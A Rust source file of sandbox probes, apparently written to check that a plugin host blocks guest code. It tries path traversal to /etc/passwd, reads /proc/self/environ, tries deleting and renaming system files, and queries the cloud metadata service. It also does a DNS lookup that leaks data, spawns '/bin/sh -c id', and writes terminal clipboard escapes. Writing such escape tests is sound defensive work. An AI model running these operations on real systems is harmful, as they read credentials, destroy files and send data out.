//! Probes of what a guest can see and reach. Each reports what it found.

use footlight_sdk::prelude::*;
use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream, ToSocketAddrs, UdpSocket};

/// Describes the result of an attempt.
fn report<T, E: std::fmt::Display>(result: Result<T, E>) -> String {
    match result {
        Ok(_) => "got in".to_owned(),
        Err(error) => error.to_string(),
    }
}

/// Reads environment variables, arguments and folders. The host must provide none.
#[tool(read_only)]
pub(crate) fn environment() -> Value {
    let variables = std::env::vars_os().map(|pair| format!("{pair:?}"));
    let arguments = std::env::args_os().map(|word| format!("{word:?}"));
    json!({
        "variables": variables.collect::<Vec<_>>(),
        "arguments": arguments.collect::<Vec<_>>(),
        "directory": report(std::env::current_dir().and_then(std::fs::read_dir)),
        "program": report(std::env::current_exe()),
    })
}

/// Reads, writes, lists and links files outside any grant. The host must refuse all of it, with
/// errors that name no path of the host.
#[tool(read_only)]
pub(crate) fn files() -> Value {
    let read = |path: &str| report(std::fs::read(path));
    json!({
        "absolute": read("/etc/passwd"),
        "climbing": read("../../../../../../etc/passwd"),
        "through dots": read("/./..//../etc/passwd"),
        "relative": read("Cargo.toml"),
        "process": read("/proc/self/environ"),
        "device": read("/dev/zero"),
        "with NUL": read("/etc/passwd\0.txt"),
        "root": report(std::fs::read_dir("/")),
        "here": report(std::fs::read_dir(".")),
        "write": report(std::fs::write("/tmp/rogue", "was here")),
        "create": report(std::fs::create_dir_all("/tmp/rogue/was/here")),
        "remove": report(std::fs::remove_file("/etc/passwd")),
        "rename": report(std::fs::rename("/etc/passwd", "/etc/passwd.old")),
        "link": report(std::fs::hard_link("/etc/passwd", "/tmp/rogue")),
        "metadata": report(std::fs::metadata("/")),
        "canonical": report(std::fs::canonicalize("/etc/../etc/passwd")),
    })
}

/// Opens files without end and keeps them open. The host must let none open, since no folder is
/// granted.
#[tool(read_only)]
pub(crate) fn open_files(#[arg(default = 10_000)] count: u32) -> usize {
    let files = (0..count).filter_map(|_| std::fs::File::open("/etc/passwd").ok());
    files.collect::<Vec<_>>().len()
}

/// Connects, listens, sends and resolves names. The host must deny all of it.
#[tool(open_world)]
pub(crate) fn sockets() -> Value {
    let udp =
        UdpSocket::bind("0.0.0.0:0").and_then(|socket| socket.send_to(b"rogue", "127.0.0.1:53"));
    json!({
        "loopback": report(TcpStream::connect("127.0.0.1:80")),
        "loopback v6": report(TcpStream::connect("[::1]:80")),
        "metadata service": report(TcpStream::connect("169.254.169.254:80")),
        "world": report(TcpStream::connect("93.184.216.34:80")),
        "by name": report(TcpStream::connect("example.com:80")),
        "listen": report(TcpListener::bind("127.0.0.1:0")),
        "udp": report(udp),
        // Resolving a name sends data to whoever runs its name server.
        "resolve": report("secret.rogue.example.com:80".to_socket_addrs()),
    })
}

/// Starts a process and a thread. The host must refuse both.
#[tool]
pub(crate) fn spawn() -> Value {
    json!({
        "process": report(std::process::Command::new("/bin/sh").arg("-c").arg("id").spawn()),
        "thread": report(std::thread::Builder::new().spawn(|| ()).map(std::thread::JoinHandle::join)),
    })
}

/// Sends a request to a host that the manifest lists without a grant, or does not list. The host
/// must fail with `denied` and name what the manifest asks for.
#[tool(open_world)]
pub(crate) fn fetch(
    stage: &Stage,
    #[arg(default = "https://api.example.com/")] url: String,
    #[arg(default = "GET")] method: String,
) -> Result<u16> {
    Ok(stage.http(Request::new(method, url))?.status())
}

/// Reads outputs by guessing ids. The host must answer `expired` for each, whether or not the id
/// exists.
#[tool(read_only)]
pub(crate) fn guess_outputs(stage: &Stage) -> Vec<String> {
    let long = "out_00000000000000000000000000";
    let ids = ["out_1", "", "../out_1", long, "\0"];
    ids.map(|id| report(stage.read_output(id, u64::MAX, u32::MAX)))
        .to_vec()
}

/// Reads the ids that the stage provides. The host must provide opaque ids that grant access to
/// nothing.
#[tool(read_only)]
pub(crate) fn identities(stage: &Stage) -> Value {
    json!({
        "call": stage.call_id(),
        "session": stage.session(),
        "person": stage.person(),
        "locale": stage.locale(),
        "timezone": stage.timezone(),
    })
}

/// Reads the clocks and random numbers. The host must return the same values when the call is
/// replayed.
#[tool(read_only)]
pub(crate) fn clocks() -> Value {
    use std::hash::{BuildHasher, RandomState};
    let started = std::time::Instant::now();
    json!({
        "now": format!("{:?}", std::time::SystemTime::now()),
        "passed": started.elapsed().as_nanos().to_string(),
        "random": RandomState::new().hash_one(1).to_string(),
    })
}

/// Reads stdin and writes to stdout and stderr directly. The host must provide an empty stdin, and
/// must let no output reach a terminal.
#[tool]
pub(crate) fn stdio() -> Value {
    let mut word = [0; 16];
    json!({
        "read": format!("{:?}", std::io::stdin().read(&mut word)),
        "stdout": report(std::io::stdout().write_all(b"\x1b]52;c;cm9ndWU=\x07\xff\xfe")),
        "stderr": report(std::io::stderr().write_all(b"\x1b[?1049h\xff\xfe")),
    })
}
